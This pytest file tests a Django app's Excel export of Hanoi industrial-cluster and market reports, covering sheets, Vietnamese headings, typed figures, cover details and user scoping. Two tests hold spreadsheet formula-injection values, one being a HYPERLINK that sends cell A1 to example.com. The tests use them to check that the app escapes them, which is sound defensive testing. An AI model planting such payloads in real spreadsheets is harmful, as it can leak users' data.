"""The report workbook of a period, downloaded over HTTP and read back with openpyxl: typed
cells, Vietnamese headings, the selectors' figures, the cover, scoping and bad parameters."""

import datetime
import io
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from clusters.indicators import report_indicators
from clusters.selectors import OPERATING_STATES, construction_overdue, wastewater_compliance
from dashboard.workbook import report_workbook
from markets.selectors import market_statistics
from registry.dates import today
from registry.models import AdministrativeUnit, UnitAssignment
from registry.reporting import grouping_label
from registry.scoping import units_in_scope
from tests.dashboard.helpers import AS_OF, in_group, make_city
from tests.factories import ClusterFactory, UserFactory, district

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEETS = [
    "Trang bìa",
    "Chỉ tiêu CCN",
    "Chỉ tiêu nước thải",
    "Chậm khởi công",
    "Chậm hoàn thành hạ tầng",
    "Chợ",
]
#: the half-year 2023 closes on 14 June 2023, the date of tests.dashboard.helpers' city
assert datetime.date(2023, 6, 14) == AS_OF


def download(client, user, **params):
    client.force_login(user)
    return client.get("/report.xlsx", params)


def open_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content))


def half_year_2023(client, user):
    response = download(client, user, period="half_year", year="2023")
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        'attachment; filename="bao-cao-6-thang-dau-nam-2023.xlsx"'
    )
    return open_xlsx(response.content)


def cover_values(book) -> dict:
    sheet = book["Trang bìa"]
    return {row[0].value: row[1].value for row in sheet.iter_rows(min_row=4) if len(row) > 1}


def table(sheet) -> tuple[list[str], list[list]]:
    """The column headers (row 2) and the rows below, as cells."""
    rows = list(sheet.iter_rows(min_row=2))
    return [c.value for c in rows[0]], [list(r) for r in rows[1:]]


def by_unit(sheet) -> tuple[list[str], dict]:
    headers, rows = table(sheet)
    return headers, {(r[0].value or r[1].value): r for r in rows}


def assert_number(cell, expected):
    if expected is None:
        assert cell.value is None
        return
    assert isinstance(cell.value, int | float | Decimal), (cell.coordinate, cell.value)
    assert not isinstance(cell.value, bool)
    assert Decimal(str(cell.value)) == Decimal(str(expected)), (cell.coordinate, cell.value)


def test_the_workbook_has_its_sheets_and_a_cover_naming_the_period(client, department_user):
    make_city()
    book = half_year_2023(client, department_user)
    assert book.sheetnames == SHEETS
    cover = book["Trang bìa"]
    assert cover["A1"].value == "Báo cáo tình hình cụm công nghiệp và chợ"
    values = cover_values(book)
    assert values["Kỳ báo cáo"] == "6 tháng đầu năm 2023"
    # Dates are date cells shown day first, not texts.
    assert values["Từ ngày"] == datetime.datetime(2022, 12, 15)
    assert values["Đến ngày"] == datetime.datetime(2023, 6, 14)
    assert values["Ngày chốt số liệu"] == datetime.datetime(2023, 6, 14)
    date_cells = [r[1] for r in cover.iter_rows(min_row=4) if len(r) > 1 and r[0].value]
    formats = {c.number_format for c in date_cells if isinstance(c.value, datetime.datetime)}
    assert formats == {"DD/MM/YYYY", "DD/MM/YYYY HH:MM"}
    assert values["Tổng hợp theo"] == str(grouping_label("district", AS_OF))
    assert values["Phạm vi"] == "Hà Nội (toàn thành phố)"
    generated = values["Thời điểm tạo tệp"]
    assert isinstance(generated, datetime.datetime)
    now = timezone.localtime().replace(tzinfo=None)
    assert abs(now - generated) < datetime.timedelta(minutes=5)
    assert values["Người tạo tệp"] == "department"
    assert values["Tình trạng số liệu"] == "chưa công bố: số liệu tính tại thời điểm tạo tệp"
    assert "Thông tư số 14/2024/TT-BCT" in values["Căn cứ"]


def test_indicators_are_typed_and_equal_the_selector(client, department_user):
    make_city()
    ClusterFactory(
        code="DA-LAND",
        district=district("017"),
        established_on=datetime.date(2022, 1, 1),
        industrial_land_ha="20.00",
        leased_land_ha="7.50",
        registered_capital_vnd=Decimal("123456789000"),
        disbursed_capital_vnd=Decimal("23456789000"),
        tenant_count=4,
        worker_count=321,
    )
    book = half_year_2023(client, department_user)
    sheet = book["Chỉ tiêu CCN"]
    assert sheet.freeze_panes == "C3"
    assert "Chỉ tiêu cụm công nghiệp theo đơn vị" in sheet["A1"].value
    assert "14/06/2023" in sheet["A1"].value
    headers, rows = by_unit(sheet)
    for heading in (
        "Mã đơn vị",
        "Đơn vị hành chính",
        "Số cụm công nghiệp (trừ cụm đã đóng)",
        "Đang hoạt động",
        "Diện tích quy hoạch (ha)",
        "Diện tích đất công nghiệp (ha)",
        "Diện tích đất công nghiệp đã cho thuê (ha)",
        "Tỷ lệ lấp đầy (%)",
        "Vốn đầu tư hạ tầng đăng ký (đồng)",
        "Vốn đầu tư hạ tầng đã giải ngân (đồng)",
        "Số doanh nghiệp thứ cấp",
        "Số lao động",
        "Số cụm đang hoạt động có trạm xử lý nước thải tập trung đang vận hành",
    ):
        assert heading in headers, heading
    column = {h: i for i, h in enumerate(headers)}
    expected = report_indicators(as_of=AS_OF)
    assert len(rows) == len(expected.units) + 1 == 31  # 30 districts and the total
    for row in [*expected.units, SimpleNamespace(unit=None, figures=expected.city)]:
        cells = rows[row.unit.code if row.unit else "Tổng cộng Hà Nội"]
        f = row.figures
        assert_number(cells[column["Số cụm công nghiệp (trừ cụm đã đóng)"]], f.not_closed)
        assert_number(cells[column["Đang hoạt động"]], f.by_status["operating"])
        assert_number(cells[column["Diện tích quy hoạch (ha)"]], f.area_ha)
        assert_number(cells[column["Diện tích đất công nghiệp (ha)"]], f.industrial_land_ha)
        assert_number(cells[column["Tỷ lệ lấp đầy (%)"]], f.occupancy_percent)
        assert_number(cells[column["Vốn đầu tư hạ tầng đăng ký (đồng)"]], f.registered_capital_vnd)
        assert_number(cells[column["Số lao động"]], f.workers)
    da = rows["017"]
    assert da[1].value == "Đông Anh"
    # By hand: 5 Đông Anh clusters in make_city + DA-LAND, 30 ha each; 7.5 of 20 ha leased.
    assert_number(da[column["Số cụm công nghiệp (trừ cụm đã đóng)"]], 6)
    assert_number(da[column["Diện tích quy hoạch (ha)"]], Decimal("180"))
    assert_number(da[column["Tỷ lệ lấp đầy (%)"]], Decimal("37.5"))
    assert_number(da[column["Vốn đầu tư hạ tầng đăng ký (đồng)"]], 123456789000)
    assert da[column["Diện tích quy hoạch (ha)"]].number_format == "#,##0.00"
    assert da[column["Vốn đầu tư hạ tầng đăng ký (đồng)"]].number_format == "#,##0"
    assert da[column["Tỷ lệ lấp đầy (%)"]].number_format == "0.00"
    assert rows["002"][column["Tỷ lệ lấp đầy (%)"]].value is None  # no land: no occupancy
    assert rows["Tổng cộng Hà Nội"][1].font.b


def test_kpi_by_unit_equals_the_selector(client, department_user):
    make_city()
    book = half_year_2023(client, department_user)
    headers, rows = by_unit(book["Chỉ tiêu nước thải"])
    column = {h: i for i, h in enumerate(headers)}
    for heading in ("Số cụm đang hoạt động", "Số cụm đạt quy chuẩn", "Tỷ lệ (%)", "Đạt chỉ tiêu"):
        assert heading in headers
    assert headers[8:] == [str(s.label) for s in OPERATING_STATES if s != "compliant"]
    kpi = wastewater_compliance(as_of=AS_OF)
    for row in kpi.units:
        cells = rows[row.unit.code]
        assert_number(cells[column["Số cụm đang hoạt động"]], row.figures.operating)
        assert_number(cells[column["Số cụm đạt quy chuẩn"]], row.figures.compliant)
        assert_number(cells[column["Tỷ lệ (%)"]], row.figures.share_percent)
        assert_number(cells[column["Còn thiếu (cụm)"]], row.figures.shortfall)
    # By hand: Đông Anh 1 of 4 (25 %, 3 short of 95 %), the city 2 of 6.
    da = rows["017"]
    assert [da[column[h]].value for h in ("Số cụm đang hoạt động", "Số cụm đạt quy chuẩn")] == [
        4,
        1,
    ]
    assert_number(da[column["Tỷ lệ (%)"]], Decimal("25"))
    assert_number(da[column["Chỉ tiêu (%)"]], Decimal("95"))
    assert da[column["Đạt chỉ tiêu"]].value == "chưa đạt"
    assert rows["002"][column["Tỷ lệ (%)"]].value is None  # no operating cluster: no share
    city = rows["Tổng cộng Hà Nội"]
    assert_number(city[column["Số cụm đang hoạt động"]], 6)
    assert_number(city[column["Tỷ lệ (%)"]], Decimal("33.33"))
    assert_number(city[column["Còn thiếu (cụm)"]], kpi.city.shortfall)


def test_overdue_lists_have_real_date_cells(client, department_user):
    make_city()
    ClusterFactory(
        code="DA-SLOW-BUILD",
        district=district("017"),
        established_on=datetime.date(2018, 1, 1),
        construction_started_on=datetime.date(2019, 1, 1),
        planned_completion=datetime.date(2021, 1, 1),
    )
    book = half_year_2023(client, department_user)
    overdue = construction_overdue(as_of=AS_OF)
    for title, items in (
        ("Chậm khởi công", overdue.start_overdue),
        ("Chậm hoàn thành hạ tầng", overdue.completion_overdue),
    ):
        sheet = book[title]
        assert sheet.freeze_panes == "C3"
        headers, rows = table(sheet)
        assert headers == [
            "Mã cụm công nghiệp",
            "Cụm công nghiệp",
            "Mã đơn vị",
            "Đơn vị hành chính",
            "Thời hạn",
            "Căn cứ thời hạn",
            "Số quyết định gia hạn",
            "Số ngày quá hạn",
        ]
        assert [r[0].value for r in rows] == [item.cluster.code for item in items]
        for cells, item in zip(rows, items, strict=True):
            assert cells[2].value == item.unit.code
            assert cells[4].value == datetime.datetime.combine(item.deadline, datetime.time())
            assert cells[4].number_format == "DD/MM/YYYY"
            assert cells[5].value == str(item.deadline_source_label)
            assert_number(cells[7], item.days_overdue)
    assert {r[0].value for r in table(book["Chậm khởi công"])[1]} == {"DA-OVERDUE", "UH-OVERDUE"}
    completion = table(book["Chậm hoàn thành hạ tầng"])[1]
    assert [r[0].value for r in completion] == ["DA-SLOW-BUILD"]
    assert_number(completion[0][7], (AS_OF - datetime.date(2021, 1, 1)).days)


def test_market_counts_equal_the_selector(client, department_user):
    make_city()
    book = half_year_2023(client, department_user)
    headers, rows = by_unit(book["Chợ"])
    assert headers[2] == "Chợ"
    assert "Chưa xếp hạng" in headers
    stats = market_statistics(grouping="district")
    for unit, counts in stats.units:
        assert_number(rows[unit.code][2], counts.total)
    assert_number(rows["002"][2], 3)  # Hoàn Kiếm: HK-1, HK-2, HK-3
    assert_number(rows["002"][headers.index("Chưa xếp hạng")], 2)
    assert_number(rows["Tổng cộng Hà Nội"][2], 4)


def test_headings_are_vietnamese_whatever_the_interface_language(client, department_user):
    client.cookies["django_language"] = "en"
    book = half_year_2023(client, department_user)
    assert book.sheetnames == SHEETS
    assert cover_values(book)["Kỳ báo cáo"] == "6 tháng đầu năm 2023"


def test_the_year_after_the_reform_is_grouped_by_commune(client, department_user):
    make_city()
    response = download(client, department_user, period="year", year="2025")
    assert response.status_code == 200
    assert 'filename="bao-cao-nam-2025.xlsx"' in response["Content-Disposition"]
    book = open_xlsx(response.content)
    values = cover_values(book)
    assert values["Kỳ báo cáo"] == "năm 2025"
    assert values["Từ ngày"] == datetime.datetime(2024, 12, 15)
    assert values["Ngày chốt số liệu"] == datetime.datetime(2025, 12, 14)
    _headers, rows = by_unit(book["Chỉ tiêu CCN"])
    expected = report_indicators(as_of=datetime.date(2025, 12, 14))
    assert expected.grouping == "commune"
    assert set(rows) == {u.unit.code for u in expected.units} | {"Tổng cộng Hà Nội"}
    assert all(len(code) == 5 for code in rows if code != "Tổng cộng Hà Nội")


def test_the_cover_names_the_publication():
    user = UserFactory(username="publisher", first_name="Nguyễn Văn An")
    previous = SimpleNamespace(
        published_at=timezone.make_aware(datetime.datetime(2025, 12, 16, 9, 0)),
        published_by=user,
        supersedes=None,
        note="",
    )
    publication = SimpleNamespace(
        published_at=timezone.make_aware(datetime.datetime(2025, 12, 20, 14, 30)),
        published_by=user,
        supersedes=previous,
        note='=HYPERLINK("http://example.com","x") sửa số liệu xã',
    )
    department = UserFactory(username="dept-pub", is_superuser=True)
    book = open_xlsx(report_workbook("year", 2025, department, publication=publication))
    values = cover_values(book)
    assert values["Tình trạng số liệu"] == (
        "đã công bố lúc 20/12/2025 14:30, người công bố: Nguyễn Văn An (publisher), "
        "thay thế bản công bố lúc 16/12/2025 09:00"
    )
    assert values["Thời điểm công bố"] == datetime.datetime(2025, 12, 20, 14, 30)
    assert values["Người công bố"] == "Nguyễn Văn An (publisher)"
    assert values["Thay thế"] == "bản công bố lúc 16/12/2025 09:00"
    # A text written for people is never a formula.
    assert values["Ghi chú khi công bố"].startswith("'=HYPERLINK(")
    first = open_xlsx(report_workbook("year", 2025, department, publication=previous))
    first_values = cover_values(first)
    assert first_values["Tình trạng số liệu"] == (
        "đã công bố lúc 16/12/2025 09:00, người công bố: Nguyễn Văn An (publisher)"
    )
    assert first_values["Thay thế"] is None


def test_a_cluster_named_as_a_formula_is_written_as_text(client, department_user):
    name = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'
    ClusterFactory(code="EVIL", name=name, established_on=datetime.date(2019, 1, 1))
    book = half_year_2023(client, department_user)
    _headers, rows = table(book["Chậm khởi công"])
    cell = next(r[1] for r in rows if r[0].value == "EVIL")
    assert cell.data_type == "s"
    assert cell.value == "'" + name


def test_local_staff_workbook_covers_only_their_units(client, district_user):
    make_city()
    book = half_year_2023(client, district_user)
    assert cover_values(book)["Phạm vi"] == "Các đơn vị của bạn: Đông Anh"
    for title in ("Chỉ tiêu CCN", "Chỉ tiêu nước thải", "Chợ"):
        _headers, rows = by_unit(book[title])
        assert list(rows) == ["017", "Tổng các đơn vị của bạn"], title
    _headers, kpi = by_unit(book["Chỉ tiêu nước thải"])
    assert_number(kpi["Tổng các đơn vị của bạn"][2], 4)  # Đông Anh's 4 operating, not 6
    overdue = [r[0].value for r in table(book["Chậm khởi công"])[1]]
    assert overdue == ["DA-OVERDUE"]
    _headers, markets = by_unit(book["Chợ"])
    assert_number(markets["017"][2], 1)


def test_local_staff_after_the_reform_get_the_communes_they_keep(client, district_user):
    make_city()
    response = download(client, district_user, period="year", year="2025")
    assert response.status_code == 200
    _headers, rows = by_unit(open_xlsx(response.content)["Chỉ tiêu CCN"])
    kept = units_in_scope(district_user, "commune")
    assert kept, "Đông Anh's communes"
    assert list(rows) == [u.code for u in kept] + ["Tổng các đơn vị của bạn"]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({}, "Chọn kỳ báo cáo"),
        ({"period": "quarter", "year": "2024"}, "Chọn kỳ báo cáo"),
        ({"period": "year"}, "Nhập năm báo cáo"),
        ({"period": "year", "year": "hai nghìn"}, "Nhập năm báo cáo"),
        ({"period": "year", "year": "1800"}, "Nhập năm báo cáo"),
        # The years of the published reports and the targets: 2000 to 2100.
        ({"period": "year", "year": "1999"}, "Nhập năm báo cáo bằng một số từ 2000 đến 2100."),
        ({"period": "half_year", "year": "2101"}, "Nhập năm báo cáo bằng một số từ 2000 đến 2100."),
        ({"period": "year", "year": "99999999999999999999"}, "Nhập năm báo cáo"),
    ],
)
def test_bad_parameters_are_a_400_page_in_vietnamese(client, department_user, params, message):
    response = download(client, department_user, **params)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert message in response.content.decode()


def test_a_cut_off_after_today_is_refused(client, department_user):
    year = today().year + 1
    response = download(client, department_user, period="half_year", year=str(year))
    assert response.status_code == 400
    text = response.content.decode()
    assert f"Báo cáo 6 tháng đầu năm {year} chốt số liệu ngày 14/06/{year}" in text


def test_the_gate_is_the_dashboards(client, db):
    anonymous = client.get("/report.xlsx", {"period": "year", "year": "2024"})
    assert anonymous.status_code == 302 and "login" in anonymous["Location"]
    no_permission = UserFactory(username="no-figures")
    assert download(client, no_permission, period="year", year="2024").status_code == 403


def test_an_account_without_units_gets_no_figures(client, db):
    user = in_group(UserFactory(username="no-units"), "District staff")
    response = download(client, user, period="year", year="2024")
    assert response.status_code == 403


def test_the_dashboard_offers_the_workbook(client, department_user):
    client.force_login(department_user)
    html = client.get("/").content.decode()
    assert 'action="/report.xlsx"' in html
    assert 'name="period"' in html and 'value="half_year"' in html and 'name="year"' in html


def test_query_count_does_not_grow_with_the_clusters(client, department_user):
    client.force_login(department_user)

    def count():
        with CaptureQueriesContext(connection) as context:
            response = client.get("/report.xlsx", {"period": "half_year", "year": "2023"})
        assert response.status_code == 200
        return len(context)

    make_city()
    few = count()
    for n in range(40):
        ClusterFactory(code=f"MANY-{n}", established_on=datetime.date(2019, 1, 1))
    # The session and the account (4), the period's publication (1), the indicators (2), the
    # KPI (2), the overdue lists (2), the market counts (2), whatever the number of clusters.
    assert count() == few == 13


def test_commune_staff_workbook_covers_only_their_commune(client, db):
    mine = AdministrativeUnit.objects.get(code="00454")  # Xã Đông Anh
    other = AdministrativeUnit.objects.get(code="00466")  # Xã Phúc Thịnh, also from Đông Anh
    for unit, marker in ((mine, "MINE"), (other, "OTHER")):
        ClusterFactory(
            code=f"CCN-{marker}",
            district=district("017"),
            commune=unit,
            established_on=datetime.date(2015, 1, 1),
            worker_count=10 if marker == "MINE" else 1000,
        )
    user = in_group(UserFactory(username="xa-dong-anh"), "District staff")
    UnitAssignment.objects.create(user=user, unit=mine)
    response = download(client, user, period="year", year="2025")
    assert response.status_code == 200
    book = open_xlsx(response.content)
    headers, rows = by_unit(book["Chỉ tiêu CCN"])
    assert list(rows) == ["00454", "Tổng các đơn vị của bạn"]
    assert_number(rows["Tổng các đơn vị của bạn"][headers.index("Số lao động")], 10)
    assert [r[0].value for r in table(book["Chậm khởi công"])[1]] == ["CCN-MINE"]
    # Before the reform the figures are by district, and a commune keeps no district's.
    assert download(client, user, period="half_year", year="2025").status_code == 403


def test_a_published_period_names_its_publication_and_whether_figures_changed(
    client, department_user
):
    """The download of a published period names the current publication on its cover, with
    the published totals and whether today's recomputation still gives them."""
    from reports.services import publish
    from tests.dashboard.helpers import operating_cluster

    make_city()
    publish("half_year", 2023, department_user)
    cover = cover_values(half_year_2023(client, department_user))
    assert isinstance(cover["Thời điểm công bố"], datetime.datetime)
    assert cover["Người công bố"] == "department"
    assert cover["Đã công bố: số cụm đang hoạt động"] == 6
    assert "giống số liệu đã công bố" in cover["Số liệu trong tệp"]
    # A back-dated cluster: the workbook's figures are today's, and the cover says they differ.
    operating_cluster("DA-LATE-ENTRY", "017")
    cover = cover_values(half_year_2023(client, department_user))
    assert cover["Đã công bố: số cụm đang hoạt động"] == 6
    assert "khác số liệu đã công bố" in cover["Số liệu trong tệp"]


def test_a_target_changed_after_publication_makes_the_cover_say_the_figures_differ(
    client, department_user
):
    """The cover compares the whole KPI with the published one, as the dashboard's panel and
    the API do (``reports.changes``): a target changed after publication changes the share's
    verdict though not the counts, and the figures differ."""
    from clusters.selectors import target_for
    from reports.services import publish

    make_city()
    publish("half_year", 2023, department_user)
    cover = cover_values(half_year_2023(client, department_user))
    assert cover["Số liệu trong tệp"] == (
        "tính lại tại thời điểm tạo tệp cho ngày chốt số liệu; giống số liệu đã công bố"
    )
    target = target_for(AS_OF)
    target.percent = target.percent - 5
    target.save()
    book = half_year_2023(client, department_user)
    cover = cover_values(book)
    # The city's counts are those published; the target (and what follows from it) is not.
    published = (
        cover["Đã công bố: số cụm đang hoạt động"],
        cover["Đã công bố: số cụm đạt quy chuẩn"],
    )
    assert published == (6, 2)
    headers, rows = by_unit(book["Chỉ tiêu nước thải"])
    city = rows["Tổng cộng Hà Nội"]
    assert (city[2].value, city[3].value) == (6, 2)
    assert_number(city[headers.index("Chỉ tiêu (%)")], target.percent)
    assert cover["Số liệu trong tệp"].startswith(
        "tính lại tại thời điểm tạo tệp cho ngày chốt số liệu; khác số liệu đã công bố"
    )
    # The dashboard's panel says so too.
    client.force_login(department_user)
    panel = client.get("/", {"as_of": AS_OF.isoformat()}).context["published"]
    assert panel.differs


def test_local_staff_get_the_publication_but_no_comparison_of_the_city_figures(
    client, department_user, district_user
):
    """A local account's workbook covers its units only, not the report's figures: its cover
    names the publication but compares nothing with it (as the panel and the API, which show
    published figures only over every unit)."""
    from reports.services import publish

    make_city()
    publish("half_year", 2023, department_user)
    cover = cover_values(half_year_2023(client, district_user))
    assert cover["Người công bố"] == "department"
    assert isinstance(cover["Thời điểm công bố"], datetime.datetime)
    for label in (
        "Đã công bố: số cụm đang hoạt động",
        "Đã công bố: số cụm đạt quy chuẩn",
        "Số liệu trong tệp",
    ):
        assert label not in cover


def test_the_download_reads_the_published_kpi_not_every_cluster_row(client, department_user):
    """The publication's ``figures`` holds every cluster's row (and the one it supersedes
    its own): the download loads neither, only the current one's KPI (``with_kpi``)."""
    from unittest import mock

    from dashboard import workbook
    from reports.services import publish

    make_city()
    publish("half_year", 2023, department_user)
    publish("half_year", 2023, department_user, note="sửa số liệu")
    client.force_login(department_user)
    with (
        mock.patch.object(workbook, "report_workbook", wraps=workbook.report_workbook) as spy,
        CaptureQueriesContext(connection) as queries,
    ):
        response = client.get("/report.xlsx", {"period": "half_year", "year": "2023"})
    assert response.status_code == 200
    # As many queries as a period not published (test_query_count_does_not_grow_…): the
    # figures are not fetched afterwards either.
    assert len(queries) == 13
    cover = cover_values(open_xlsx(response.content))
    publication = spy.call_args.kwargs["publication"]
    assert publication.note == "sửa số liệu"
    # Still deferred once the workbook is written: the cover read the annotated KPI.
    assert "figures" in publication.get_deferred_fields()
    assert "figures" in publication.supersedes.get_deferred_fields()
    assert publication.published_kpi["operating"] == 6
    assert cover["Đã công bố: số cụm đang hoạt động"] == 6
    assert cover["Ghi chú khi công bố"] == "sửa số liệu"
    assert cover["Thay thế"].startswith("bản công bố lúc ")
